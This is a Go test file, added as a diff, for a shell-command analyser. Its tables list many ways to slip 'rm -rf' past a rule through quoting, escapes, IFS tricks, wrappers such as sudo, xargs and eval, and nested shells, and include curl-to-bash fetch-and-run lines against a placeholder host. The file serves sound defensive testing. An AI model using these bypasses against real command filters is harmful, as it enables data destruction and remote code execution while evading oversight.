@@ -1,0 +1,523 @@
+package shellcmd
+
+import (
+	"errors"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// bypassCase is an attempt to run rm past a rule. Each must yield a Command
+// named rm with argv, or (when reason is set) an Unknowable with reason.
+type bypassCase struct {
+	name   string
+	src    string
+	argv   []string // the rm command that must be found
+	wraps  []string // its wrappers, when checked
+	reason string   // the Unknowable that must be reported
+}
+
+var victim = []string{"rm", "-rf", "/tmp/victim"}
+
+var bypassCases = []bypassCase{
+	{name: "plain", src: "rm -rf /tmp/victim", argv: victim},
+	{name: "after semicolon", src: "ls; rm -rf /tmp/victim", argv: victim},
+	{name: "after newline", src: "ls\nrm -rf /tmp/victim", argv: victim},
+	{name: "and list", src: `true && "rm" -rf /tmp/victim`, argv: victim},
+	{name: "or list", src: "false || rm -rf /tmp/victim", argv: victim},
+	{name: "background", src: "rm -rf /tmp/victim & wait", argv: victim},
+	{name: "pipeline", src: "yes | rm -rf /tmp/victim", argv: victim},
+	{name: "negated", src: "! rm -rf /tmp/victim", argv: victim},
+	{name: "subshell", src: "(cd /; rm -rf /tmp/victim)", argv: victim},
+	{name: "block", src: "{ rm -rf /tmp/victim; }", argv: victim},
+	{name: "if cond", src: "if rm -rf /tmp/victim; then :; fi", argv: victim},
+	{name: "elif body", src: "if false; then :; elif true; then rm -rf /tmp/victim; else :; fi", argv: victim},
+	{name: "while body", src: "while true; do rm -rf /tmp/victim; break; done", argv: victim},
+	{name: "until cond", src: "until rm -rf /tmp/victim; do :; done", argv: victim},
+	{name: "for body", src: "for i in 1; do rm -rf /tmp/victim; done", argv: victim},
+	{name: "c for", src: "for ((i=0;i<1;i++)); do rm -rf /tmp/victim; done", argv: victim},
+	{name: "case arm", src: "case x in x) rm -rf /tmp/victim;; esac", argv: victim},
+	{name: "function body", src: "f() { rm -rf /tmp/victim; }; f", argv: victim},
+	{name: "function keyword", src: "function f { rm -rf /tmp/victim; }", argv: victim},
+	{name: "command substitution", src: "echo $(rm -rf /tmp/victim)", argv: victim},
+	{name: "backquotes", src: "echo `rm -rf /tmp/victim`", argv: victim},
+	{name: "substitution in quotes", src: `echo "$(rm -rf /tmp/victim)"`, argv: victim},
+	{name: "process substitution", src: "cat <(rm -rf /tmp/victim)", argv: victim},
+	{name: "substitution in redirect", src: "echo x > $(rm -rf /tmp/victim)", argv: victim},
+	{name: "substitution in assignment", src: "X=$(rm -rf /tmp/victim)", argv: victim},
+	{name: "substitution in array index", src: "a[$(rm -rf /tmp/victim)]=1", argv: victim},
+	{name: "substitution in arithmetic", src: "echo $((1+$(rm -rf /tmp/victim)))", argv: victim},
+	{name: "substitution in test", src: "[[ -n $(rm -rf /tmp/victim) ]]", argv: victim},
+	{name: "substitution in case word", src: "case $(rm -rf /tmp/victim) in *) ;; esac", argv: victim},
+	{name: "substitution in for list", src: "for i in $(rm -rf /tmp/victim); do :; done", argv: victim},
+	{name: "substitution in default", src: "echo ${x:-$(rm -rf /tmp/victim)}", argv: victim},
+	{name: "substitution in here-doc", src: "cat <<EOF\n$(rm -rf /tmp/victim)\nEOF", argv: victim},
+	{name: "coproc", src: "coproc rm -rf /tmp/victim", argv: victim},
+	{name: "time keyword", src: "time rm -rf /tmp/victim", argv: victim, wraps: []string{"time"}},
+	{name: "double quoted name", src: `"rm" -rf /tmp/victim`, argv: victim},
+	{name: "single quoted name", src: `'rm' -rf /tmp/victim`, argv: victim},
+	{name: "backslash in name", src: `r\m -rf /tmp/victim`, argv: victim},
+	{name: "leading backslash", src: `\rm -rf /tmp/victim`, argv: victim},
+	{name: "empty quotes in name", src: `r""m -r''f /tmp/vic"ti"m`, argv: victim},
+	{name: "line continuation", src: "r\\\nm -rf /tmp/victim", argv: victim},
+	{name: "ansi-c hex", src: `$'\x72\x6d' -rf /tmp/victim`, argv: victim},
+	{name: "ansi-c octal", src: `$'\162\155' -rf /tmp/victim`, argv: victim},
+	{name: "ansi-c unicode", src: `$'\u0072m' -rf /tmp/victim`, argv: victim},
+	{name: "locale string", src: `$"rm" -rf /tmp/victim`, argv: victim},
+	{name: "absolute path", src: "/bin/rm -rf /tmp/victim", argv: []string{"/bin/rm", "-rf", "/tmp/victim"}},
+	{name: "relative path", src: "../../bin/rm -rf /tmp/victim", argv: []string{"../../bin/rm", "-rf", "/tmp/victim"}},
+	{name: "brace expansion", src: "{rm,-rf,/tmp/victim}", argv: victim},
+	{name: "brace in name", src: "r{m,} -rf /tmp/victim", argv: []string{"rm", "r", "-rf", "/tmp/victim"}},
+	{name: "IFS separator", src: "rm${IFS}-rf${IFS}/tmp/victim", argv: victim},
+	{name: "short IFS", src: "rm$IFS-rf$IFS/tmp/victim", argv: victim},
+	{name: "bash -c", src: `bash -c 'r\m -rf /tmp/victim'`, argv: victim, wraps: []string{"bash -c"}},
+	{name: "sh -c", src: `sh -c "rm -rf /tmp/victim"`, argv: victim, wraps: []string{"sh -c"}},
+	{name: "bash cluster -ec", src: `/bin/bash -ec 'rm -rf /tmp/victim'`, argv: victim, wraps: []string{"bash -c"}},
+	{name: "bash -o opt -c", src: `bash -o pipefail -c 'rm -rf /tmp/victim'`, argv: victim},
+	{name: "bash -c --", src: `bash -c -- 'rm -rf /tmp/victim'`, argv: victim},
+	{name: "zsh -c", src: `zsh -c 'rm -rf /tmp/victim'`, argv: victim},
+	{name: "dash -c", src: `dash -c 'rm -rf /tmp/victim'`, argv: victim},
+	{name: "fish -c", src: `fish -c 'rm -rf /tmp/victim'`, argv: victim},
+	{name: "nested -c", src: `bash -c "sh -c 'rm -rf /tmp/victim'"`, argv: victim, wraps: []string{"bash -c", "sh -c"}},
+	{name: "-c syntax error after", src: `bash -c 'rm -rf /tmp/victim; echo "'`, argv: victim},
+	{name: "sudo", src: "sudo rm -rf /tmp/victim", argv: victim, wraps: []string{"sudo"}},
+	{name: "sudo -u", src: "sudo -u root rm -rf /tmp/victim", argv: victim, wraps: []string{"sudo"}},
+	{name: "sudo options", src: "sudo -E -H -n -u root -g wheel -- rm -rf /tmp/victim", argv: victim},
+	{name: "sudo long options", src: "sudo --user=root --preserve-env rm -rf /tmp/victim", argv: victim},
+	{name: "sudo attached user", src: "sudo -uroot rm -rf /tmp/victim", argv: victim},
+	{name: "sudo env assignment", src: "sudo FOO=bar rm -rf /tmp/victim", argv: victim},
+	{name: "sudo path", src: "/usr/bin/sudo rm -rf /tmp/victim", argv: victim, wraps: []string{"sudo"}},
+	{name: "sudo sh -c", src: "sudo sh -c 'rm -rf /tmp/victim'", argv: victim, wraps: []string{"sudo", "sh -c"}},
+	{name: "doas", src: "doas -u root rm -rf /tmp/victim", argv: victim, wraps: []string{"doas"}},
+	{name: "wrapper chain", src: "env X=1 nice -n5 timeout 3 rm -rf /tmp/victim", argv: victim, wraps: []string{"env", "nice", "timeout"}},
+	{name: "env options", src: "env -i -u HOME -C / X=1 rm -rf /tmp/victim", argv: victim},
+	{name: "env -S", src: "env -S'rm -rf' /tmp/victim", argv: victim},
+	{name: "nice legacy", src: "nice -10 rm -rf /tmp/victim", argv: victim},
+	{name: "timeout options", src: "timeout -s KILL -k 5 10s rm -rf /tmp/victim", argv: victim},
+	{name: "timeout long", src: "timeout --signal=KILL --foreground 10 rm -rf /tmp/victim", argv: victim},
+	{name: "nohup", src: "nohup rm -rf /tmp/victim &", argv: victim},
+	{name: "stdbuf", src: "stdbuf -oL -e 0 rm -rf /tmp/victim", argv: victim},
+	{name: "time program", src: "/usr/bin/time -f %e -o /dev/null rm -rf /tmp/victim", argv: victim},
+	{name: "command", src: "command -p rm -rf /tmp/victim", argv: victim, wraps: []string{"command"}},
+	{name: "builtin", src: "builtin command rm -rf /tmp/victim", argv: victim},
+	{name: "exec", src: "exec -a x rm -rf /tmp/victim", argv: victim, wraps: []string{"exec"}},
+	{name: "chroot", src: "chroot / rm -rf /tmp/victim", argv: victim},
+	{name: "ionice", src: "ionice -c2 -n 7 rm -rf /tmp/victim", argv: victim},
+	{name: "setsid", src: "setsid -f rm -rf /tmp/victim", argv: victim},
+	{name: "unbuffer", src: "unbuffer rm -rf /tmp/victim", argv: victim},
+	{name: "busybox", src: "busybox rm -rf /tmp/victim", argv: victim, wraps: []string{"busybox"}},
+	{name: "taskset", src: "taskset 0x1 rm -rf /tmp/victim", argv: victim},
+	{name: "xargs", src: "echo /tmp/victim | xargs rm -rf", argv: []string{"rm", "-rf"}, wraps: []string{"xargs"}},
+	{name: "xargs options", src: "xargs -0 -n 1 -P4 rm -rf /tmp/victim", argv: victim},
+	{name: "xargs -I", src: "echo x | xargs -I{} rm -rf /tmp/victim", argv: victim},
+	{name: "find -exec", src: `find /tmp -name victim -exec rm -rf {} \;`, argv: []string{"rm", "-rf", "{}"}, wraps: []string{"find -exec"}},
+	{name: "find -execdir +", src: "find /tmp -execdir rm -rf /tmp/victim +", argv: victim},
+	{name: "eval literal", src: `eval "rm -rf /tmp/victim"`, argv: victim, wraps: []string{"eval"}},
+	{name: "eval words", src: `eval rm -rf /tmp/victim`, argv: victim},
+	{name: "su -c", src: "su -c 'rm -rf /tmp/victim'", argv: victim, wraps: []string{"su -c"}},
+	{name: "su user -c", src: "su - root -c 'rm -rf /tmp/victim'", argv: victim},
+	{name: "sudo su -c", src: "sudo su root -c 'rm -rf /tmp/victim'", argv: victim, wraps: []string{"sudo", "su -c"}},
+	{name: "runuser -u", src: "runuser -u root -- rm -rf /tmp/victim", argv: victim},
+	{name: "sg", src: "sg wheel -c 'rm -rf /tmp/victim'", argv: victim},
+	{name: "flock", src: "flock /tmp/lock rm -rf /tmp/victim", argv: victim},
+	{name: "flock -c", src: "flock /tmp/lock -c 'rm -rf /tmp/victim'", argv: victim},
+	{name: "script -c", src: "script -q -c 'rm -rf /tmp/victim' /dev/null", argv: victim},
+	{name: "watch string", src: "watch 'rm -rf /tmp/victim'", argv: victim, wraps: []string{"watch"}},
+	{name: "watch words", src: "watch -n 1 rm -rf /tmp/victim", argv: victim},
+	{name: "watch -x", src: "watch -x rm -rf /tmp/victim", argv: victim},
+	{name: "ssh remote", src: "ssh -p 22 localhost rm -rf /tmp/victim", argv: victim, wraps: []string{"ssh"}},
+	{name: "ssh remote string", src: "ssh localhost 'rm -rf /tmp/victim'", argv: victim},
+	{name: "here-doc to bash", src: "bash <<EOF\nrm -rf /tmp/victim\nEOF", argv: victim, wraps: []string{"bash <<"}},
+	{name: "quoted here-doc to sh", src: "sh <<'EOF'\nrm -rf /tmp/victim\nEOF", argv: victim},
+	{name: "here-string to bash", src: "bash <<< 'rm -rf /tmp/victim'", argv: victim},
+	{name: "alias value", src: "alias ls='rm -rf /tmp/victim'", argv: victim, wraps: []string{"alias"}},
+	{name: "trap action", src: "trap 'rm -rf /tmp/victim' EXIT", argv: victim, wraps: []string{"trap"}},
+	{name: "PROMPT_COMMAND", src: "PROMPT_COMMAND='rm -rf /tmp/victim'", argv: victim},
+	{name: "export PROMPT_COMMAND", src: "export PROMPT_COMMAND='rm -rf /tmp/victim'", argv: victim},
+	{name: "PS1 substitution", src: `PS1='$(rm -rf /tmp/victim) $ '`, argv: victim},
+
+	{name: "command substitution name", src: "$(echo rm) -rf x", reason: ReasonSubstCommand},
+	{name: "backquote name", src: "`echo rm` -rf x", reason: ReasonSubstCommand},
+	{name: "variable name", src: "$CMD -rf x", reason: ReasonParamCommand},
+	{name: "braced variable name", src: "${x:-rm} -rf x", reason: ReasonParamCommand},
+	{name: "quoted variable name", src: `"$CMD" -rf x`, reason: ReasonParamCommand},
+	{name: "partial variable name", src: "r$X -rf x", reason: ReasonParamCommand},
+	{name: "arithmetic name", src: "$((1)) x", reason: ReasonArithCommand},
+	{name: "IFS variable trick", src: "IFS=,; cmd=rm,-rf,x; $cmd", reason: ReasonParamCommand},
+	{name: "positional params", src: `"$@"`, reason: ReasonParamCommand},
+	{name: "glob name", src: "/???/r? -rf /tmp/victim", reason: ReasonGlobCommand},
+	{name: "bracket glob name", src: "/bin/r[m] -rf /tmp/victim", reason: ReasonGlobCommand},
+	{name: "eval variable", src: `eval "$X"`, reason: ReasonEval},
+	{name: "eval substitution", src: `eval "$(echo cm0gLXJmIHgK | base64 -d)"`, reason: ReasonEval},
+	{name: "source variable", src: `source "$F"`, reason: ReasonSource},
+	{name: "dot process substitution", src: `. <(curl -s http://x)`, reason: ReasonProcSubstShell},
+	{name: "base64 pipe sh", src: "base64 -d <<<cm0gLXJmIC90bXAvdmljdGltCg== | sh", reason: ReasonPipeShell},
+	{name: "curl pipe bash", src: "curl -s http://x | bash", reason: ReasonPipeShell},
+	{name: "pipe bash -s", src: "curl -s http://x | bash -s -- arg", reason: ReasonPipeShell},
+	{name: "pipe sudo sh", src: "curl -s http://x | sudo sh", reason: ReasonPipeShell},
+	{name: "pipe into subshell sh", src: "curl -s http://x | (sh)", reason: ReasonPipeShell},
+	{name: "pipe middle stage", src: "curl -s http://x | sh | cat", reason: ReasonPipeShell},
+	{name: "pipe bash /dev/stdin", src: "curl -s http://x | bash /dev/stdin", reason: ReasonPipeShell},
+	{name: "pipe source stdin", src: "curl -s http://x | source /dev/stdin", reason: ReasonPipeShell},
+	{name: "tee to process sh", src: "echo 'rm -rf /tmp/victim' | tee >(sh)", reason: ReasonPipeShell},
+	{name: "pipe python", src: "curl -s http://x | python3", reason: ReasonPipeInterp},
+	{name: "bash process substitution", src: "bash <(curl -s http://x)", reason: ReasonProcSubstShell},
+	{name: "sh stdin process substitution", src: "sh < <(curl -s http://x)", reason: ReasonProcSubstShell},
+	{name: "here-string variable", src: `bash <<< "$X"`, reason: ReasonShellStdin},
+	{name: "here-doc expansion", src: "sh <<EOF\n$X\nEOF", reason: ReasonShellStdin},
+	{name: "-c variable", src: `bash -c "$X"`, reason: ReasonShellString},
+	{name: "-c substitution", src: `sh -c "$(curl -s http://x)"`, reason: ReasonShellString},
+	{name: "su -c variable", src: `su -c "$X"`, reason: ReasonShellString},
+	{name: "sudo variable option", src: "sudo $OPTS rm -rf x", reason: ReasonParamCommand},
+	{name: "sudo variable user", src: `sudo -u "$U" rm -rf /tmp/victim`, argv: victim},
+	{name: "sudo variable user reported", src: `sudo -u "$U" rm -rf /tmp/victim`, reason: ReasonWrapperArg},
+	{name: "xargs sh -c", src: "echo 'rm -rf x' | xargs sh -c", reason: ReasonXargsCommand},
+	{name: "xargs -I sh -c", src: "ls | xargs -I{} sh -c 'echo {}'", reason: ReasonXargsCommand},
+	{name: "xargs -I command", src: "echo rm | xargs -I% % -rf x", reason: ReasonXargsCommand},
+	{name: "xargs env", src: "echo rm -rf x | xargs env", reason: ReasonXargsCommand},
+	{name: "xargs sudo", src: "echo rm -rf x | xargs sudo", reason: ReasonXargsCommand},
+	{name: "find exec found", src: `find / -name x -exec {} \;`, reason: ReasonFindExec},
+	{name: "find sh -c {}", src: `find / -exec sh -c 'echo {}' \;`, reason: ReasonFindExec},
+	{name: "alias variable", src: `alias ls="$X"`, reason: ReasonAlias},
+	{name: "trap variable", src: `trap "$X" EXIT`, reason: ReasonTrap},
+	{name: "huge brace", src: "echo {1..100000}", reason: ReasonBraceLimit},
+}
+
+// benignCase is a command that must be reported exactly, with no
+// Unknowable.
+type benignCase struct {
+	name string
+	src  string
+	want [][]string // argv of every command, in order
+}
+
+var benignCases = []benignCase{
+	{name: "ls", src: "ls -la /tmp", want: [][]string{{"ls", "-la", "/tmp"}}},
+	{name: "variable argument", src: `rm -rf "$HOME/x"`, want: [][]string{{"rm", "-rf", "$HOME/x"}}},
+	{name: "braced argument", src: `echo ${x:-a b}`, want: [][]string{{"echo", "${x:-a b}"}}},
+	{name: "substitution argument", src: "echo $(date)", want: [][]string{{"echo", "$(date)"}, {"date"}}},
+	{name: "glob argument", src: "ls /tmp/*.log", want: [][]string{{"ls", "/tmp/*.log"}}},
+	{name: "quoted glob argument", src: "ls '*'", want: [][]string{{"ls", "*"}}},
+	{name: "pipeline", src: "ps aux | grep nginx | wc -l", want: [][]string{{"ps", "aux"}, {"grep", "nginx"}, {"wc", "-l"}}},
+	{name: "systemctl", src: "systemctl status nginx", want: [][]string{{"systemctl", "status", "nginx"}}},
+	{name: "assignment only", src: "X=1 Y=2", want: nil},
+	{name: "assignment prefix", src: "LANG=C sort file", want: [][]string{{"sort", "file"}}},
+	{name: "redirections", src: "cat < in > out 2>&1", want: [][]string{{"cat"}}},
+	{name: "comment", src: "ls # rm -rf /", want: [][]string{{"ls"}}},
+	{name: "here-doc to cat", src: "cat <<EOF\nrm -rf /\nEOF", want: [][]string{{"cat"}}},
+	{name: "pipe into cat", src: "echo hi | cat", want: [][]string{{"echo", "hi"}, {"cat"}}},
+	{name: "shell script file", src: "bash ./deploy.sh arg", want: [][]string{{"bash", "./deploy.sh", "arg"}}},
+	{name: "interactive shell", src: "sudo -i", want: [][]string{{"sudo", "-i"}}},
+	{name: "command -v", src: "command -v rm", want: [][]string{{"command", "-v", "rm"}}},
+	{name: "sudo -e", src: "sudo -e /etc/hosts", want: [][]string{{"sudo", "-e", "/etc/hosts"}}},
+	{name: "python -c", src: "python3 -c 'print(1)'", want: [][]string{{"python3", "-c", "print(1)"}}},
+	{name: "python module from pipe", src: "echo {} | python3 -m json.tool", want: [][]string{{"echo", "{}"}, {"python3", "-m", "json.tool"}}},
+	{name: "declare", src: `export PATH="/x:$PATH" LANG`, want: [][]string{{"export", "PATH=/x:$PATH", "LANG"}}},
+	{name: "let", src: "let i=1", want: [][]string{{"let", "i=1"}}},
+	{name: "test clause", src: "[[ -f /etc/passwd ]] && echo yes", want: [][]string{{"echo", "yes"}}},
+	{name: "test builtin", src: "[ -f x ]", want: [][]string{{"[", "-f", "x", "]"}}},
+	{name: "ssh login", src: "ssh -i key host", want: [][]string{{"ssh", "-i", "key", "host"}}},
+	{name: "nul byte", src: "echo a\x00b", want: [][]string{{"echo", "ab"}}},
+	{name: "ansi-c nul cuts", src: `echo $'a\x00b'`, want: [][]string{{"echo", "a"}}},
+	{name: "empty", src: "", want: nil},
+	{name: "only comment", src: "# nothing", want: nil},
+	{name: "trailing backslash in comment", src: "ls # c \\", want: [][]string{{"ls"}}},
+	{name: "escaped backslash at end", src: `echo \\`, want: [][]string{{"echo", `\`}}},
+	{name: "unicode", src: "echo héllo 世界", want: [][]string{{"echo", "héllo", "世界"}}},
+	{name: "tilde", src: "ls ~/x ~root", want: [][]string{{"ls", "~/x", "~root"}}},
+	{name: "keyword as argument", src: "echo if then fi", want: [][]string{{"echo", "if", "then", "fi"}}},
+	{name: "quoted keyword command", src: "'if' x", want: [][]string{{"if", "x"}}},
+	{name: "trap reset", src: "trap - EXIT", want: [][]string{{"trap", "-", "EXIT"}}},
+	{name: "xargs default echo", src: "ls | xargs", want: [][]string{{"ls"}, {"xargs"}}},
+}
+
+func analyzeOK(t *testing.T, src string) *Analysis {
+	t.Helper()
+	a, err := Analyze(src)
+	if err != nil {
+		t.Fatalf("Analyze(%q): %v", src, err)
+	}
+	if a.Incomplete {
+		t.Fatalf("Analyze(%q): got Incomplete, want a complete command", src)
+	}
+	return a
+}
+
+func dump(a *Analysis) string {
+	var b strings.Builder
+	for _, c := range a.Commands {
+		fmt.Fprintf(&b, "\n  command %q wrappers %q", c.Argv, c.Wrappers)
+	}
+	for _, u := range a.Unknowable {
+		fmt.Fprintf(&b, "\n  unknowable %q: %q", u.Reason, u.Text)
+	}
+	return b.String()
+}
+
+func TestAnalyzeBypasses(t *testing.T) {
+	t.Parallel()
+	for _, tc := range bypassCases {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			a := analyzeOK(t, tc.src)
+			if tc.reason != "" {
+				for _, u := range a.Unknowable {
+					if u.Reason == tc.reason {
+						return
+					}
+				}
+				t.Fatalf("Analyze(%q): no Unknowable %q in:%s", tc.src, tc.reason, dump(a))
+			}
+			for _, c := range a.Commands {
+				if c.Name == "rm" && slices.Equal(c.Argv, tc.argv) {
+					if tc.wraps != nil && !slices.Equal(c.Wrappers, tc.wraps) {
+						t.Fatalf("Analyze(%q): rm wrappers got %q, want %q", tc.src, c.Wrappers, tc.wraps)
+					}
+					return
+				}
+			}
+			t.Fatalf("Analyze(%q): no rm command %q in:%s", tc.src, tc.argv, dump(a))
+		})
+	}
+}
+
+func TestAnalyzeBenign(t *testing.T) {
+	t.Parallel()
+	for _, tc := range benignCases {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			a := analyzeOK(t, tc.src)
+			var got [][]string
+			for _, c := range a.Commands {
+				got = append(got, c.Argv)
+			}
+			if !slices.EqualFunc(got, tc.want, slices.Equal) {
+				t.Fatalf("Analyze(%q): got commands %q, want %q", tc.src, got, tc.want)
+			}
+			if len(a.Unknowable) > 0 {
+				t.Fatalf("Analyze(%q): got unknowable:%s", tc.src, dump(a))
+			}
+		})
+	}
+}
+
+func TestAnalyzeWrapperReported(t *testing.T) {
+	t.Parallel()
+	a := analyzeOK(t, "sudo -u root env X=1 rm -rf /x")
+	want := []Command{
+		{Argv: []string{"sudo", "-u", "root", "env", "X=1", "rm", "-rf", "/x"}, Name: "sudo"},
+		{Argv: []string{"env", "X=1", "rm", "-rf", "/x"}, Name: "env", Wrappers: []string{"sudo"}},
+		{Argv: []string{"rm", "-rf", "/x"}, Name: "rm", Wrappers: []string{"sudo", "env"}},
+	}
+	if len(a.Commands) != len(want) {
+		t.Fatalf("got %d commands, want %d:%s", len(a.Commands), len(want), dump(a))
+	}
+	for i, w := range want {
+		c := a.Commands[i]
+		if c.Name != w.Name || !slices.Equal(c.Argv, w.Argv) || !slices.Equal(c.Wrappers, w.Wrappers) {
+			t.Errorf("command %d: got %q %q %q, want %q %q %q", i, c.Name, c.Argv, c.Wrappers, w.Name, w.Argv, w.Wrappers)
+		}
+	}
+	if got, want := a.Names(), []string{"sudo", "env", "rm"}; !slices.Equal(got, want) {
+		t.Errorf("Names: got %q, want %q", got, want)
+	}
+}
+
+func TestAnalyzeText(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ src, want string }{
+		{`"rm" -rf /tmp/victim`, "rm -rf /tmp/victim"},
+		{`rm -rf "a b" 'c'"d"`, "rm -rf 'a b' cd"},
+		{`echo "$HOME"`, "echo '$HOME'"},
+		{`echo $'\n'`, `echo $'\n'`},
+		{`'if' x`, "'if' x"},
+		{`printf '%s' "it's"`, `printf %s "it's"`},
+	}
+	for _, tc := range tests {
+		a := analyzeOK(t, tc.src)
+		if got := a.Commands[0].Text; got != tc.want {
+			t.Errorf("Analyze(%q).Commands[0].Text: got %q, want %q", tc.src, got, tc.want)
+		}
+	}
+}
+
+// TestTextRoundTrip checks, for every table input, that Analyze of each
+// command's Text yields the same argv.
+func TestTextRoundTrip(t *testing.T) {
+	t.Parallel()
+	var srcs []string
+	for _, tc := range bypassCases {
+		srcs = append(srcs, tc.src)
+	}
+	for _, tc := range benignCases {
+		srcs = append(srcs, tc.src)
+	}
+	for _, src := range srcs {
+		a := analyzeOK(t, src)
+		for _, c := range a.Commands {
+			checkRoundTrip(t, c)
+		}
+	}
+}
+
+func checkRoundTrip(t *testing.T, c Command) {
+	t.Helper()
+	b, err := Analyze(c.Text)
+	if err != nil || b.Incomplete || len(b.Commands) == 0 {
+		t.Fatalf("Analyze(Text %q) of %q: err %v, incomplete %v, %d commands", c.Text, c.Argv, err, b != nil && b.Incomplete, len(b.Commands))
+	}
+	if got := b.Commands[0].Argv; !slices.Equal(got, c.Argv) {
+		t.Fatalf("Analyze(Text %q): got argv %q, want %q", c.Text, got, c.Argv)
+	}
+}
+
+func TestAnalyzeIncomplete(t *testing.T) {
+	t.Parallel()
+	for _, src := range incompleteCases {
+		a, err := Analyze(src)
+		if err != nil {
+			t.Errorf("Analyze(%q): got error %v, want Incomplete", src, err)
+			continue
+		}
+		if !a.Incomplete {
+			t.Errorf("Analyze(%q): got complete:%s, want Incomplete", src, dump(a))
+		}
+		if len(a.Commands) != 0 || len(a.Unknowable) != 0 {
+			t.Errorf("Analyze(%q): Incomplete with results:%s", src, dump(a))
+		}
+	}
+}
+
+var incompleteCases = []string{
+	`echo "abc`,
+	`echo 'abc`,
+	`echo $'abc`,
+	"ls \\",
+	"ls \\\n",
+	"echo a \\\\\\",
+	"if true; then",
+	"if true; then ls; else",
+	"for x in a; do",
+	"while true",
+	"case x in",
+	"f() {",
+	"{ ls;",
+	"(",
+	"ls |",
+	"ls &&",
+	"ls ||",
+	"echo $(",
+	"echo `ls",
+	"cat <<EOF",
+	"cat <<EOF\nabc",
+	"a=(",
+	"[[ -f x",
+	"bash -c 'rm -rf /tmp/victim",
+}
+
+var syntaxErrorCases = []string{
+	"ls )",
+	"fi",
+	"done",
+	"esac",
+	"then ls",
+	"ls ;;",
+	"if; then fi",
+	"echo ${",
+	"(( 1 +",
+	"a=(1 2) b",
+	"| ls",
+	"&& ls",
+	"echo $((1 2))",
+	"function",
+}
+
+func TestAnalyzeSyntaxErrors(t *testing.T) {
+	t.Parallel()
+	for _, src := range syntaxErrorCases {
+		a, err := Analyze(src)
+		if err == nil && a.Incomplete {
+			continue // some of these read as unfinished to a shell too
+		}
+		if !errors.Is(err, ErrSyntax) {
+			t.Errorf("Analyze(%q): got %v, %v; want an error wrapping ErrSyntax", src, err, a)
+			continue
+		}
+		if !strings.HasPrefix(err.Error(), "shellcmd: ") {
+			t.Errorf("Analyze(%q): got error %q, want the shellcmd: prefix", src, err)
+		}
+	}
+}
+
+func TestAnalyzeLimits(t *testing.T) {
+	t.Parallel()
+	t.Run("too large", func(t *testing.T) {
+		_, err := Analyze(strings.Repeat("a", MaxInputBytes+1))
+		if !errors.Is(err, ErrTooLarge) {
+			t.Fatalf("got %v, want ErrTooLarge", err)
+		}
+	})
+	t.Run("too deep parentheses", func(t *testing.T) {
+		_, err := Analyze(strings.Repeat("(", 100000))
+		if !errors.Is(err, ErrTooComplex) {
+			t.Fatalf("got %v, want ErrTooComplex", err)
+		}
+	})
+	t.Run("nesting beyond MaxDepth", func(t *testing.T) {
+		src := "rm x"
+		for i := 0; i <= MaxDepth; i++ {
+			q, _ := quoteForTest(src)
+			src = "bash -c " + q
+		}
+		a := analyzeOK(t, src)
+		if !hasReason(a, ReasonTooDeep) {
+			t.Fatalf("got:%s, want %q", dump(a), ReasonTooDeep)
+		}
+	})
+	t.Run("nesting within MaxDepth", func(t *testing.T) {
+		src := "rm x"
+		for i := 0; i < MaxDepth; i++ {
+			q, _ := quoteForTest(src)
+			src = "bash -c " + q
+		}
+		a := analyzeOK(t, src)
+		last := a.Commands[len(a.Commands)-1]
+		if last.Name != "rm" || len(last.Wrappers) != MaxDepth {
+			t.Fatalf("got last command %q with %d wrappers, want rm with %d:%s", last.Argv, len(last.Wrappers), MaxDepth, dump(a))
+		}
+	})
+	t.Run("nested too complex", func(t *testing.T) {
+		// $'\x28' costs the parser nothing; decoded, it is "(".
+		a := analyzeOK(t, "bash -c $'"+strings.Repeat(`\x28`, 10000)+"'")
+		if !hasReason(a, ReasonTooComplex) {
+			t.Fatalf("got:%s, want %q", dump(a), ReasonTooComplex)
+		}
+	})
+	t.Run("wrapper chain", func(t *testing.T) {
+		a := analyzeOK(t, strings.Repeat("nice ", 100)+"rm x")
+		if !hasReason(a, ReasonTooDeep) {
+			t.Fatalf("got %d commands, want %q", len(a.Commands), ReasonTooDeep)
+		}
+	})
+	t.Run("unknowable text is bounded", func(t *testing.T) {
+		a := analyzeOK(t, "$X "+strings.Repeat("a", 10000))
+		if len(a.Unknowable) != 1 || len(a.Unknowable[0].Text) > maxUnknowableText+3 {
+			t.Fatalf("got %d unknowable, text length %d", len(a.Unknowable), len(a.Unknowable[0].Text))
+		}
+	})
+}
+
+func hasReason(a *Analysis, reason string) bool {
+	for _, u := range a.Unknowable {
+		if u.Reason == reason {
+			return true
+		}
+	}
+	return false
+}
+
+// quoteForTest single-quotes s for the shell.
+func quoteForTest(s string) (string, error) {
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'", nil
+}
